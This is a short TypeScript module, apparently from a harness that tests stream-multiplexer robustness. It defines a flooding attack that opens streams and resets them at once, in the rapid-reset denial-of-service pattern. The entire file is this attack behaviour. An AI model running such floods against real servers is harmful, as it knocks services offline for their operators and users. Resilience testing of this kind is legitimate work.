/** Streams that are opened and reset at once. */
import type { Behaviour } from '../attack/target.js'
import { FLAG, flooding, FRAME, header, streams } from '../attack/wire.js'

export const attack: Behaviour = async (target, signal) => flooding(target, signal, (n) => streams(n, 100, (stream) => Buffer.concat([header(FRAME.window, FLAG.syn, stream, 0), header(FRAME.window, FLAG.rst, stream, 0)])))
